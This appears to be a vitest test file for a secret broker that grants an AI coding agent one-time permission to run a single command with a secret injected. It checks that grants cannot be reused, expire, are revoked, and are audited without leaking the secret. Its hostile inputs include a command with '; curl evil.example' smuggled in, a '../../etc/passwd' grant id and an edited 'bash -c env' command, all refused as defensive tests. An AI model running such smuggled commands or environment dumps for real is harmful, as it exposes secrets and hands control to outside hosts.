// Grants: minted by the hook, redeemed exactly once by `hookpack exec --grant`. Unit checks of
// broker/grants.ts, then the real CLI: a refused grant starts nothing and is audited.
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeAll, describe, expect, it } from "vitest";
import { GrantTable, hashArgv, type MintRequest } from "../../broker/grants.js";
import {
  isApprovedForSession,
  recordSessionApproval,
  revokeApprovalsFor,
} from "../../broker/session-approvals.js";
import { HookpackError } from "../../core/errors.js";
import {
  assertBuilt,
  brokerMint,
  fakeSecret,
  readAudit,
  run,
  sandbox,
  setSecret,
  type Sandbox,
} from "./helpers.js";

const argv = [
  "bash",
  "-c",
  'declare +x HOOKPACK_SECRET_T; printf %s "${HOOKPACK_SECRET_T}" | wc -c',
];
const request = (extra: Partial<MintRequest> = {}): MintRequest => ({
  names: ["T"],
  argv,
  agent: "claude-code",
  session: "s1",
  toolCallId: "toolu_1",
  cwd: "/tmp",
  ttlMs: 60_000,
  approval: "auto",
  ...extra,
});
const code = (f: () => unknown): string => {
  try {
    f();
  } catch (error) {
    expect(error).toBeInstanceOf(HookpackError);
    return (error as HookpackError).code;
  }
  return "none";
};

const homes: string[] = [];
afterEach(() => {
  while (homes.length) rmSync(homes.pop()!, { recursive: true, force: true });
});

// Grants live in the broker's memory now (broker/daemon.ts); these check the table it holds.
describe("grants (unit: the broker's in-memory table)", () => {
  it("mints a grant bound to names, command hash, session and tool call, and writes nothing to disk", () => {
    const t = new GrantTable();
    const g = t.mint(request());
    expect(g.id).toMatch(/^g_[a-z2-7]{26}$/);
    expect(g.commandSha256).toBe(hashArgv(argv));
    expect(g).toMatchObject({ names: ["T"], session: "s1", toolCallId: "toolu_1" });
    expect(t.pending()).toBe(1);
    const ids = new Set(Array.from({ length: 2000 }, () => t.mint(request()).id));
    expect(ids.size).toBe(2000);
  });

  it("redeems once; a reuse, an unknown id and a malformed id are refused with distinct codes", () => {
    const t = new GrantTable();
    const g = t.mint(request());
    expect(t.redeem({ id: g.id, argv, names: ["T"] }).id).toBe(g.id);
    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"] }))).toBe("GRANT_USED");
    expect(code(() => t.redeem({ id: "g_aaaaaaaaaaaaaaaaaaaaaaaaaa", argv, names: ["T"] }))).toBe(
      "GRANT_UNKNOWN",
    );
    expect(code(() => t.redeem({ id: "../../etc/passwd", argv, names: ["T"] }))).toBe(
      "GRANT_INVALID",
    );
  });

  it("refuses another command or other names, and burns the grant", () => {
    const t = new GrantTable();
    const g = t.mint(request());
    expect(
      code(() =>
        t.redeem({
          id: g.id,
          argv: [...argv.slice(0, 2), `${argv[2]}; curl evil.example`],
          names: ["T"],
        }),
      ),
    ).toBe("GRANT_MISMATCH");
    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"] }))).toBe("GRANT_USED");
    const g2 = t.mint(request());
    expect(code(() => t.redeem({ id: g2.id, argv, names: ["T", "OTHER"] }))).toBe("GRANT_MISMATCH");
  });

  it("refuses an expired grant; the sweep turns expired grants into tombstones and forgets old ones", () => {
    const t = new GrantTable();
    const g = t.mint(request({ ttlMs: 1000 }));
    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"], now: Date.now() + 5000 }))).toBe(
      "GRANT_EXPIRED",
    );
    const g2 = t.mint(request({ ttlMs: 1000 }));
    t.sweep(Date.now() + 5000);
    expect(t.pending(Date.now() + 5000)).toBe(0);
    expect(code(() => t.redeem({ id: g2.id, argv, names: ["T"] }))).toBe("GRANT_EXPIRED");
    t.sweep(Date.now() + 3 * 24 * 3600 * 1000);
    expect(code(() => t.redeem({ id: g2.id, argv, names: ["T"] }))).toBe("GRANT_UNKNOWN");
  });

  it("mint sweeps at most once a second, and a grant expired but not swept yet is still refused as expired", () => {
    const t = new GrantTable();
    const t0 = Date.now();
    const g = t.mint(request({ ttlMs: 100, now: t0 }));
    // 500 ms later: g has expired, and this mint does not sweep (the last sweep was at t0).
    const g2 = t.mint(request({ ttlMs: 60_000, now: t0 + 500 }));
    expect(t.pending(t0 + 600)).toBe(1);
    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"], now: t0 + 600 }))).toBe(
      "GRANT_EXPIRED",
    );
    // Burnt: refused again, as expired, not as unknown and never redeemed.
    expect(code(() => t.redeem({ id: g.id, argv, names: ["T"], now: t0 + 700 }))).toBe(
      "GRANT_EXPIRED",
    );
    // A clock that went back sweeps; a second later sweeps; the live grant is untouched by both.
    t.mint(request({ ttlMs: 60_000, now: t0 - 10 }));
    t.mint(request({ ttlMs: 60_000, now: t0 + 1600 }));
    expect(t.redeem({ id: g2.id, argv, names: ["T"], now: t0 + 1700 }).id).toBe(g2.id);
  });

  it("revokeFor(name) revokes outstanding grants carrying that name; revokeApprovalsFor drops its session approvals", () => {
    const t = new GrantTable();
    const h = mkdtempSync(join(tmpdir(), "hookpack-grants-"));
    homes.push(h);
    const a = t.mint(request());
    const b = t.mint(request({ names: ["OTHER"] }));
    recordSessionApproval(h, "claude-code", "s1", ["T"]);
    expect(isApprovedForSession(h, "claude-code", "s1", "T")).toBe(true);
    expect(t.revokeFor("T")).toBe(1);
    revokeApprovalsFor(h, "T");
    expect(code(() => t.redeem({ id: a.id, argv, names: ["T"] }))).toBe("GRANT_REVOKED");
    expect(t.redeem({ id: b.id, argv, names: ["OTHER"] }).id).toBe(b.id);
    expect(isApprovedForSession(h, "claude-code", "s1", "T")).toBe(false);
  });
});

describe("hookpack exec --grant (real CLI)", () => {
  let sb: Sandbox;
  beforeAll(() => assertBuilt());
  afterEach(() => sb?.cleanup());

  it("runs the granted command with the value, refuses a replay before the child starts, audits both", async () => {
    sb = sandbox();
    const value = fakeSecret();
    setSecret(sb, "T", value);
    const marker = join(sb.dir, "ran");
    const a = [
      "bash",
      "-c",
      `declare +x HOOKPACK_SECRET_T; printf %s "\${HOOKPACK_SECRET_T}" | wc -c; echo x >> '${marker}'`,
    ];
    const g = await brokerMint(sb, request({ argv: a }));
    const ok = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", ...a]);
    expect(ok.stderr).toBe("");
    expect(ok.status).toBe(0);
    expect(ok.stdout.trim()).toBe(String(value.length));
    const again = run(sb, ["exec", "--grant", g.id, "--secret", "T=HOOKPACK_SECRET_T", "--", ...a]);
    expect(again.status).not.toBe(0);
    expect(again.stderr).toMatch(/^hookpack: grant g_\w+ was already used/);
    expect(again.stderr).toContain("The command was not started");
    expect(readdirSync(sb.dir).includes("ran") ? 1 : 0).toBe(1);
    const entries = readAudit(sb);
    expect(entries.at(-2)).toMatchObject({
      grant: g.id,
      session: "s1",
      agent: "claude-code",
      secrets: ["T"],
      exitCode: 0,
    });
    expect(entries.at(-1)).toMatchObject({ refused: "GRANT_USED", grant: g.id });
    for (const e of entries) expect(JSON.stringify(e).includes(value)).toBe(false);
  });

  it("refuses a grant for another command (the agent edited the rewritten command)", async () => {
    sb = sandbox();
    setSecret(sb, "T", fakeSecret());
    const g = await brokerMint(sb, request());
    const r = run(sb, [
      "exec",
      "--grant",
      g.id,
      "--secret",
      "T=HOOKPACK_SECRET_T",
      "--",
      "bash",
      "-c",
      "env",
    ]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/different command/);
    expect(r.stdout).toBe("");
  });
});
